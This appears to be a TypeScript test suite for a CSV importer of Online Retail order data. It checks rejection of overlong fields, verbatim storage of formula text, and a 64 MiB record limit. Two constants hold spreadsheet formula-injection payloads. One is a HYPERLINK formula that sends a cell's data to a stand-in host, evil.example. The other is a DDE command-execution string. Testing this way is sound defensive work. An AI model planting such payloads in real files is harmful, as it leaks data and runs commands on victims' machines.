import { createWriteStream, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { finished } from 'node:stream/promises';
import { openDatabase, type Database } from '../../database/open-database';
import { describeEachBackend, type TestDatabase } from '../../testing/test-databases';
import { ImportFileError, MAX_CSV_RECORD_BYTES } from '../import-file';

const HEADER = 'InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country';
const MiB = 1024 * 1024;
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")';
const CALC = "=cmd|' /C calc'!A0";

/** An Online Retail row; text cells quoted as CSV quotes them. */
const row = (cells: { invoice?: string; code?: string; description?: string; customer?: string; country?: string }) =>
  [
    cells.invoice ?? '536365',
    cells.code ?? '85123A',
    `"${(cells.description ?? 'WHITE HANGING HEART').replaceAll('"', '""')}"`,
    '6',
    '2010-12-01 08:26:00',
    '2.55',
    cells.customer ?? '17850.0',
    `"${(cells.country ?? 'United Kingdom').replaceAll('"', '""')}"`,
  ].join(',');

// What an attacker uploads: a 20 MiB description, overlong ids and text, and formula cells a
// spreadsheet would run. Line numbers are the file's (the header is line 1).
const HOSTILE_ROWS: [line: number, text: string][] = [
  [2, row({})],
  [3, row({ invoice: '536366', code: '22000', description: 'x'.repeat(20 * MiB) })],
  [4, row({ invoice: '536367', code: '22001', description: HYPERLINK })],
  [5, row({ invoice: '536368', code: '@SUM(1+1)', description: CALC, country: '+44 20 7946 0000' })],
  [6, row({ invoice: '536369', code: 'S'.repeat(129) })],
  [7, row({ invoice: '1'.repeat(129) })],
  [8, row({ invoice: '536370', customer: `1${'0'.repeat(128)}` })],
  [9, row({ invoice: '536371', country: 'C'.repeat(101) })],
  [10, row({ invoice: '536372', code: '22002', description: 'é'.repeat(501) })],
  // At the limits: accepted.
  [11, row({ invoice: '536373', code: 'L'.repeat(128), description: '€'.repeat(500), customer: `00${'9'.repeat(128)}.0`, country: 'C'.repeat(100) })],
];

describeEachBackend('OnlineRetailImporter, hostile CSV', (backend) => {
  let testDb: TestDatabase;
  let db: Database;
  let dir: string;

  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'reco-hostile-'));
    testDb = await backend.create();
    db = await openDatabase({ url: testDb.url });
    await db.migrate();
  });
  afterAll(async () => {
    await db?.close();
    await testDb?.drop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('rejects every row with an overlong field, with its line and reason, and imports the others as given', async () => {
    const file = path.join(dir, 'hostile.csv');
    writeFileSync(file, [HEADER, ...HOSTILE_ROWS.map(([, text]) => text)].join('\n'));
    const summary = await db.importer.import(file);
    expect(summary.rowsRead).toBe(10);
    expect(summary.rejected.first).toEqual([
      { line: 3, reason: 'description longer than 500 characters' },
      { line: 6, reason: 'stock code longer than 128 characters' },
      { line: 7, reason: 'invoice number longer than 128 characters' },
      { line: 8, reason: 'customer id longer than 128 characters' },
      { line: 9, reason: 'country longer than 100 characters' },
      { line: 10, reason: 'description longer than 500 characters' },
    ]);
    expect(summary.rejected.byReason).toEqual({
      'description longer than 500 characters': 2,
      'stock code longer than 128 characters': 1,
      'invoice number longer than 128 characters': 1,
      'customer id longer than 128 characters': 1,
      'country longer than 100 characters': 1,
    });
    expect(summary.inserted).toMatchObject({ orders: 4, orderLines: 4 });
    expect(await db.orders.findByInvoiceNos(['536366', '536369', '536370', '536371', '536372', '1'.repeat(129)])).toEqual([]);
    expect(await db.products.findByIds(['22000', 'S'.repeat(129), '22002'])).toEqual([]);

    // Formula text is data: stored exactly as given (whoever writes it into a CSV neutralises it).
    const [hyperlink, calc, longest] = await db.products.findByIds(['22001', '@SUM(1+1)', 'L'.repeat(128)]);
    expect(hyperlink?.title).toBe(HYPERLINK);
    expect(calc?.title).toBe(CALC);
    expect(longest?.title).toBe('€'.repeat(500));
    expect(await db.customers.findById(`${'9'.repeat(128)}`)).toMatchObject({ country: 'C'.repeat(100) });
    expect((await db.orders.findByInvoiceNos(['536368']))[0]).toMatchObject({ country: '+44 20 7946 0000' });
    const [{ longestText }] = await db.client.$queryRawUnsafe<[{ longestText: number | bigint }]>(
      'SELECT MAX(LENGTH(description)) AS "longestText" FROM order_lines',
    );
    expect(Number(longestText)).toBe(500);
  });

  // The bound is the parser's, before any database: once is enough (parsing 64 MiB takes a while).
  const onSqlite = backend.name === 'sqlite' ? it : it.skip;
  onSqlite(`stops at a record over ${MAX_CSV_RECORD_BYTES / MiB} MiB (a quote never closed) with the line, and publishes nothing`, async () => {
    const file = path.join(dir, 'unclosed-quote.csv');
    const out = createWriteStream(file);
    out.write(`${HEADER}\n${row({ invoice: '600001' })}\n600002,85123A,"NEVER CLOSED,6,2010-12-01 08:26:00,2.55,17850.0,United Kingdom\n`);
    // Rows without quotes: none of them closes the open quote.
    const filler = '600003,85123A,WHITE HANGING HEART,6,2010-12-01 08:26:00,2.55,17850.0,United Kingdom\n'.repeat(MiB / 64);
    for (let written = 0; written <= MAX_CSV_RECORD_BYTES; written += filler.length) out.write(filler);
    out.end(`${row({ invoice: '600004' })}\n`);
    await finished(out);
    const before = await db.orders.count();
    const failure = db.importer.import(file);
    await expect(failure).rejects.toThrow(ImportFileError);
    await expect(failure).rejects.toThrow(`cannot import ${file}: the CSV record after line 2 is longer than 64 MiB (a quoted cell that never closes?)`);
    expect(await db.orders.count()).toEqual(before);
    expect(await db.orders.findByInvoiceNos(['600001'])).toEqual([]);
  }, 120_000);
});
